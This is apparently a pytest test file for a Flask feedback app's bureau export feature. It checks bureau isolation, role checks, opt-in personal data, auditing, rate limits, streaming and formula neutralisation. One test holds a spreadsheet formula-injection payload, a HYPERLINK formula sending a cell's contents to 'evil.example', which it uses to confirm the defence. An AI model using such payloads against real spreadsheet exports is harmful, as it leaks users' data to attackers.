"""A bureau exports the views its inbox lists (the tab and filters of the page) as CSV or JSON:
its own views only, formulas neutralised, names only when asked for, every export audited,
streamed so that memory stays flat."""

import csv
import io
import json
import re
import tracemalloc
from datetime import UTC, datetime, timedelta

import pytest
from flask import render_template, request
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import select, update

from bench import export_volume
from feedback_app.bureau import export, inbox, services
from feedback_app.extensions import db
from feedback_app.kernel.models import AuditAction, AuditEvent, Role, Status, Submission
from feedback_app.text import spreadsheet

from . import factories
from .conftest import hypothesis_examples, make_app

_views = iter(range(1, 100_000))
NOW = datetime.now(UTC)


def view(
    bureau: str,
    status: Status = Status.ROUTED,
    *,
    body: str | None = None,
    due_in: int = 10,
    assignee=None,
    name: str | None = "Chan Tai Man",
    email: str | None = "chan.taiman@example.org",
    language: str = "en",
) -> Submission:
    """A view in a bureau's hands, its route set directly (the workflow sets it from decisions)."""
    sub = factories.submission(body or f"{factories.TRANSPORT_VIEW} (view {next(_views)})")
    db.session.execute(
        update(Submission)
        .where(Submission.id == sub.id)
        .values(
            status=status,
            bureau_code=bureau,
            area_code=sub.topic_area_code,
            routed_at=NOW - timedelta(days=1),
            due_at=NOW + timedelta(days=due_in),
            assigned_to_id=assignee.id if assignee else None,
            name=name,
            email=email,
            language=language,
        )
    )
    db.session.commit()
    db.session.refresh(sub)
    return sub


@pytest.fixture
def quiet(app):
    app.config["ROUTING_BUREAU_THRESHOLD"] = 1.01  # nothing is routed by the classifier meanwhile
    return app


def csv_rows(response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    body = response.get_data()
    assert body.startswith("\ufeff".encode()), "no byte order mark: Excel would read the file as Big5"
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def references(response) -> list[str]:
    return [row["reference"] for row in csv_rows(response) if row["reference"].startswith("SCF-")]


def listed_on_inbox(client, query: str) -> list[str]:
    page = client.get(f"/bureau/?{query}")
    assert page.status_code == 200
    return re.findall(r">(SCF-[0-9A-Z-]+)</a>", page.get_data(as_text=True))


# --- the same views as the inbox -------------------------------------------------------------


def test_export_lists_the_views_the_inbox_lists_for_the_same_query(quiet, client, login_as, officer):
    colleague = factories.user(Role.OFFICER, bureau="TLB")
    soon = view("TLB", due_in=1)
    later = view("TLB", due_in=5, language="zh_Hant")
    mine = view("TLB", Status.IN_PROGRESS, assignee=officer, due_in=3)
    theirs = view("TLB", Status.IN_PROGRESS, assignee=colleague, due_in=2)
    late = view("TLB", due_in=-2)
    answered = view("TLB", Status.ANSWERED)
    login_as(officer)
    for query, expected in (
        ("tab=new", [late, soon, later]),  # due soonest first, as the inbox
        ("tab=mine", [mine]),
        ("tab=in_progress", [theirs, mine]),
        ("tab=answered", [answered]),
        ("tab=all&overdue=y", [late]),
        ("tab=all&language=zh_Hant", [later]),
        (f"tab=all&assignee={colleague.id}", [theirs]),
        ("tab=all&sort=newest", [answered, late, theirs, mine, later, soon]),
        ("tab=all&sort=oldest", [soon, later, mine, theirs, late, answered]),
    ):
        exported = references(client.get(f"/bureau/export.csv?{query}"))
        assert exported == [s.reference for s in expected], query
        assert exported == listed_on_inbox(client, query), query


def test_every_copy_of_a_campaign_is_a_row_of_its_own(quiet, client, login_as, officer):
    from feedback_app.kernel.models import Campaign

    copies = [view("TLB") for _ in range(3)]
    campaign = Campaign()
    db.session.add(campaign)
    db.session.flush()
    db.session.execute(
        update(Submission).where(Submission.id.in_([c.id for c in copies])).values(campaign_id=campaign.id)
    )
    db.session.commit()
    login_as(officer)
    rows = csv_rows(client.get("/bureau/export.csv?tab=all"))
    assert len(listed_on_inbox(client, "tab=all")) == 1  # the inbox lists a campaign once...
    assert sorted(r["reference"] for r in rows) == sorted(c.reference for c in copies)  # ...the file every copy
    assert {r["campaign id"] for r in rows} == {str(campaign.id)}


def test_the_columns_of_a_row(quiet, client, login_as, officer):
    sub = view("TLB", Status.IN_PROGRESS, assignee=officer)
    login_as(officer)
    services.answer(officer, sub.id, services.AnswerText("Thank you: more trips from January.", "多謝：一月起加班次。"))
    (row,) = csv_rows(client.get("/bureau/export.csv?tab=answered"))
    assert row["reference"] == sub.reference
    assert row["status"] == "answered"
    assert row["bureau"] == "TLB"
    assert row["initiative"] == sub.initiative.title_en
    assert row["smart area"] == sub.topic_area.name_en
    assert row["assignee"] == officer.display_name
    assert row["text as sent"] == sub.body
    assert "Thank you: more trips from January." in row["answers"] and "多謝：一月起加班次。" in row["answers"]
    assert row["answers"].startswith("[TLB ")
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d", row["answered at (Hong Kong time)"])
    due = sub.due_at.astimezone(export.HONG_KONG)
    assert row["due (Hong Kong time)"] == f"{due:%Y-%m-%d %H:%M}"


# --- isolation -------------------------------------------------------------------------------


def test_another_bureaus_views_never_appear(quiet, client, login_as, officer, other_officer):
    own = view("TLB")
    housing = view("HB", body="Public housing estates need more lifts for the elderly residents (HB only).")
    login_as(officer)
    for tab in inbox.Tab:
        for kind in ("csv", "json"):
            body = client.get(f"/bureau/export.{kind}?tab={tab.value}").get_data(as_text=True)
            assert housing.reference not in body and "HB only" not in body, (tab, kind)
    assert own.reference in client.get("/bureau/export.csv?tab=all").get_data(as_text=True)


def test_a_joint_view_is_exported_by_the_invited_bureau_with_both_parts(quiet, client, login_as, officer):
    housing_officer = factories.user(Role.OFFICER, bureau="HB")
    sub = view("HB", Status.IN_PROGRESS, assignee=housing_officer)
    services.invite(housing_officer, sub.id, "TLB")
    services.answer(housing_officer, sub.id, services.AnswerText("Housing's part of the answer.", None))
    login_as(officer)
    assert sub.reference not in client.get("/bureau/export.csv?tab=all").get_data(as_text=True)
    (row,) = csv_rows(client.get("/bureau/export.csv?tab=joint"))
    assert row["reference"] == sub.reference
    assert row["bureau"] == "HB"  # the owner: the row says whose view it is
    assert row["answers"].startswith("[HB ") and "Housing's part of the answer." in row["answers"]


def test_internal_notes_and_hashes_are_never_exported(quiet, client, login_as, officer):
    sub = view("TLB", Status.IN_PROGRESS, assignee=officer)
    services.add_note(officer, sub.id, "Internal: the operator disputes this, ask the department first.")
    login_as(officer)
    for kind in ("csv", "json"):
        body = client.get(f"/bureau/export.{kind}?tab=all&personal=1").get_data(as_text=True)
        assert sub.reference in body
        assert "operator disputes" not in body
        assert sub.tracking_token_hash not in body
        if sub.client_hash:
            assert sub.client_hash not in body


@pytest.mark.parametrize("role", [Role.MODERATOR, Role.RESIDENT, Role.ADMIN])
def test_other_roles_are_refused(quiet, client, login_as, role):
    view("TLB")
    login_as(factories.user(role))
    for kind in ("csv", "json"):
        assert client.get(f"/bureau/export.{kind}?tab=all").status_code == 403
    assert (
        db.session.execute(select(AuditEvent).where(AuditEvent.action == AuditAction.BUREAU_EXPORTED)).first() is None
    )


def test_signed_out_visitors_are_sent_to_sign_in(quiet, client):
    response = client.get("/bureau/export.csv")
    assert response.status_code in (302, 401)
    assert b"SCF-" not in response.get_data()


def test_bad_filters_are_refused_not_exported(quiet, client, login_as, officer):
    login_as(officer)
    assert client.get("/bureau/export.csv?tab=all&since=2026-12-01&until=2026-11-01").status_code == 400
    assert client.get("/bureau/export.csv?tab=all&assignee=999999").status_code == 400
    assert client.get("/bureau/export.json?tab=all&since=yesterday").status_code == 400
    assert client.get("/bureau/export.csv?tab=nonsense").status_code == 404
    assert (
        db.session.execute(select(AuditEvent).where(AuditEvent.action == AuditAction.BUREAU_EXPORTED)).first() is None
    )


# --- formulas --------------------------------------------------------------------------------

# A formula sign first, or after whitespace an importer may trim; a tab or CR first (a tab or CR
# after a space is trimmed with it, and no longer starts anything).
dangerous_text = st.one_of(
    st.builds(
        lambda space, start, rest: space + start + rest,
        st.text(alphabet=" \t\n\r\u3000\u00a0", max_size=3),
        st.sampled_from("=+-@"),
        st.text(),
    ),
    st.builds(lambda start, rest: start + rest, st.sampled_from("\t\r"), st.text()),
)


def _through_csv(cells: dict[str, object]) -> dict[str, str]:
    row = {c.key: None for c in export.columns(False)} | {"answers": []} | cells
    text = "".join(export.csv_chunks([row], personal=False, cut=False))
    (read,) = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    return read


@settings(max_examples=hypothesis_examples(300), suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=dangerous_text)
def test_a_formula_comes_back_from_csv_as_quoted_text(app, text):
    read = _through_csv({"text": text, "initiative": text, "answers": [text]})
    assert read["text as sent"] == "'" + text
    assert read["initiative"] == "'" + text
    assert read["answers"] == "'" + text


@settings(max_examples=hypothesis_examples(300), suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=st.text())
def test_any_text_comes_back_from_csv_whole_or_quoted(app, text):
    read = _through_csv({"text": text})["text as sent"]
    stripped = text.lstrip()
    dangerous = text.startswith(spreadsheet.FORMULA_STARTS) or stripped.startswith(spreadsheet.FORMULA_STARTS)
    # csv.reader reads a lone CR as a line end unless quoted; the csv module quotes it.
    assert read == ("'" + text if dangerous else text)


def test_formulas_in_a_view_are_neutralised_in_the_download(quiet, client, login_as, officer):
    view("TLB", body='=HYPERLINK("https://evil.example/?"&A1,"Click for the bus timetable") route 960')
    view("TLB", body=" -2+3 buses every hour on route 960 is far too few", name="@admin", email="+85212345678@x.org")
    login_as(officer)
    rows = csv_rows(client.get("/bureau/export.csv?tab=all&personal=1"))
    texts = sorted(r["text as sent"] for r in rows)
    assert texts[0].startswith("' -2+3") and texts[1].startswith("'=HYPERLINK(")
    assert {r["sender's name"] for r in rows} == {"'@admin", "Chan Tai Man"}
    # JSON is data, not a spreadsheet: it keeps the text exactly as sent.
    data = client.get("/bureau/export.json?tab=all").get_json()
    assert any(item["text"].startswith("=HYPERLINK(") for item in data)


# --- personal data ---------------------------------------------------------------------------


def test_names_and_addresses_only_when_ticked(quiet, client, login_as, officer):
    view("TLB", name="Chan Tai Man", email="chan.taiman@example.org")
    login_as(officer)
    for kind in ("csv", "json"):
        plain = client.get(f"/bureau/export.{kind}?tab=all").get_data(as_text=True)
        assert "Chan Tai Man" not in plain and "chan.taiman@example.org" not in plain
        assert "e-mail" not in plain and '"email"' not in plain
        ticked = client.get(f"/bureau/export.{kind}?tab=all&personal=1").get_data(as_text=True)
        assert "Chan Tai Man" in ticked and "chan.taiman@example.org" in ticked
    assert "Chan Tai Man" not in client.get("/bureau/export.csv?tab=all&personal=yes").get_data(as_text=True)


# --- the audit -------------------------------------------------------------------------------


def exports() -> list[AuditEvent]:
    return list(
        db.session.execute(
            select(AuditEvent).where(AuditEvent.action == AuditAction.BUREAU_EXPORTED).order_by(AuditEvent.id)
        ).scalars()
    )


def test_every_export_is_audited_with_its_filters_personal_data_and_count(quiet, client, login_as, officer):
    for _ in range(3):
        view("TLB", language="zh_Hant")
    view("TLB")
    login_as(officer)
    client.get("/bureau/export.csv?tab=all&language=zh_Hant&personal=1").get_data()
    client.get("/bureau/export.json?tab=new").get_data()
    first, second = exports()
    assert first.actor_id == officer.id
    assert first.after == {
        "bureau": "TLB",
        "format": "csv",
        "filters": {"tab": "all", "language": "zh_Hant", "sort": "due"},
        "personal_data": True,
        "rows": 3,
        "cut": False,
    }
    assert second.after["format"] == "json" and second.after["rows"] == 4 and second.after["personal_data"] is False


def test_the_audit_survives_a_stream_that_breaks_off(quiet, client, login_as, officer, monkeypatch):
    view("TLB")
    login_as(officer)

    def broken(*args, **kwargs):
        yield from ()
        raise RuntimeError("the database went away mid-stream")

    monkeypatch.setattr(export, "records", broken)
    with pytest.raises(RuntimeError):
        client.get("/bureau/export.csv?tab=all").get_data()
    (event,) = exports()
    assert event.after["rows"] == 1


def test_an_export_is_cut_at_the_limit_and_says_so(quiet, client, login_as, officer, monkeypatch):
    monkeypatch.setattr(export, "MAX_ROWS", 2)
    for _ in range(3):
        view("TLB")
    login_as(officer)
    response = client.get("/bureau/export.csv?tab=all")
    rows = csv_rows(response)
    assert len(rows) == 3 and rows[-1]["reference"].startswith("Cut at 2 rows")
    assert response.headers["X-Export-Cut"] == "2"
    assert "-first-2.csv" in response.headers["Content-Disposition"]
    data = client.get("/bureau/export.json?tab=all").get_json()
    assert len(data) == 2
    assert [e.after["cut"] for e in exports()] == [True, True]
    assert [e.after["rows"] for e in exports()] == [2, 2]


def test_exports_are_rate_limited_per_officer(quiet, officer):
    email = officer.email
    limited = make_app(quiet.config["SQLALCHEMY_DATABASE_URI"], RATELIMIT_ENABLED=True, EXPORT_RATE_LIMIT="2 per hour")
    from .conftest import Browser

    db.session.commit()
    client = limited.test_client()
    Browser(client).login(email)
    statuses = []
    for _ in range(3):
        response = client.get("/bureau/export.csv?tab=all")
        response.get_data()  # read to the end, as a browser does, before the next request
        statuses.append(response.status_code)
    assert statuses == [200, 200, 429]


# --- the response ----------------------------------------------------------------------------


def test_download_headers(quiet, client, login_as, officer):
    view("TLB")
    login_as(officer)
    response = client.get("/bureau/export.csv?tab=all")
    assert response.content_type == "text/csv; charset=utf-8"
    assert re.fullmatch(r'attachment; filename="TLB-views-\d{8}-\d{4}\.csv"', response.headers["Content-Disposition"])
    assert response.headers["Cache-Control"] == "no-store"
    assert response.is_streamed
    assert response.get_data().count(b"\r\n") == 2  # the header and one view, CRLF as RFC 4180 says
    json_response = client.get("/bureau/export.json?tab=all")
    assert json_response.content_type == "application/json"
    assert json_response.headers["Content-Disposition"].endswith('.json"')
    json_response.get_data()


def test_json_parses_full_and_empty(quiet, client, login_as, officer):
    subs = [view("TLB") for _ in range(3)]
    login_as(officer)
    data = json.loads(client.get("/bureau/export.json?tab=all&sort=oldest&personal=1").get_data(as_text=True))
    assert [item["reference"] for item in data] == [s.reference for s in subs]
    assert data[0]["email"] == "chan.taiman@example.org" and data[0]["answers"] == []
    assert datetime.fromisoformat(data[0]["due"]).utcoffset() == timedelta(hours=8)
    assert json.loads(client.get("/bureau/export.json?tab=closed").get_data(as_text=True)) == []
    empty_csv = csv_rows(client.get("/bureau/export.csv?tab=closed"))
    assert empty_csv == []


def test_the_export_form_carries_the_current_filters(quiet, officer):
    with quiet.test_request_context("/bureau/?tab=all&language=zh_Hant&text=%22%3E%3Cb%3E&after=7"):
        html = render_template("bureau/_export.html", tab=inbox.Tab.ALL, export_limit=export.MAX_ROWS)
        assert request.args["after"] == "7"
    assert '<input type="hidden" name="tab" value="all">' in html
    assert '<input type="hidden" name="language" value="zh_Hant">' in html
    assert 'value="&#34;&gt;&lt;b&gt;"' in html  # escaped, never markup
    assert 'name="after"' not in html
    assert '<label for="export-personal">' in html and 'id="export-personal" name="personal" value="1"' in html
    assert 'action="/bureau/export.csv"' in html and 'formaction="/bureau/export.json"' in html
    assert f"{export.MAX_ROWS:,}" in html


# --- memory ----------------------------------------------------------------------------------

MANY = 20_000


HELD = 4_000


def test_memory_stays_flat_while_many_rows_are_exported(quiet, officer, monkeypatch):
    export_volume.fill(MANY, bureau="TLB", author_id=officer.id)
    filters = inbox.InboxFilter(tab=inbox.Tab.ALL, sort=inbox.Sort.OLDEST)
    now = datetime.now(UTC)

    def streamed(limit: int) -> int:
        monkeypatch.setattr(export, "MAX_ROWS", limit)
        written = 0
        rows = export.records(filters, "TLB", officer.id, now=now, personal=True)
        for chunk in export.csv_chunks(rows, personal=True, cut=False):
            written += chunk.count("\r\n")
        return written - 1

    def held(limit: int) -> int:  # rows kept in a list, as a file built in memory would keep them
        monkeypatch.setattr(export, "MAX_ROWS", limit)
        return len(list(export.records(filters, "TLB", officer.id, now=now, personal=True)))

    def peak(fn, limit: int) -> int:
        tracemalloc.start()
        try:
            assert fn(limit) == limit
            return tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    streamed(10)  # statements compiled and cached, as in a running app
    few, many, kept = peak(streamed, 2 * export.BATCH), peak(streamed, MANY), peak(held, HELD)
    print(
        f"peak streaming 2,000 rows {few / 2**20:.1f} MiB, {MANY:,} {many / 2**20:.1f} MiB; holding {HELD:,} {kept / 2**20:.1f} MiB"
    )
    assert many < 1.5 * few, "memory grows with the rows exported"
    assert many < kept, "streaming 20,000 rows takes more than keeping 4,000 in a list"


def test_rows_are_handed_on_before_the_query_is_read_to_the_end(quiet, officer, monkeypatch):
    export_volume.fill(3 * export.BATCH, bureau="TLB", author_id=officer.id)
    fetched = []
    real = export._answers

    def counting(ids):
        fetched.append(len(ids))
        return real(ids)

    monkeypatch.setattr(export, "_answers", counting)
    rows = export.records(
        inbox.InboxFilter(tab=inbox.Tab.ALL), "TLB", officer.id, now=datetime.now(UTC), personal=False
    )
    chunks = export.csv_chunks(rows, personal=False, cut=False)
    next(chunks)
    assert fetched == [export.BATCH], "the first chunk waited for more than one batch of rows"
    assert sum(1 for _ in chunks) >= 2
    assert fetched == [export.BATCH] * 3
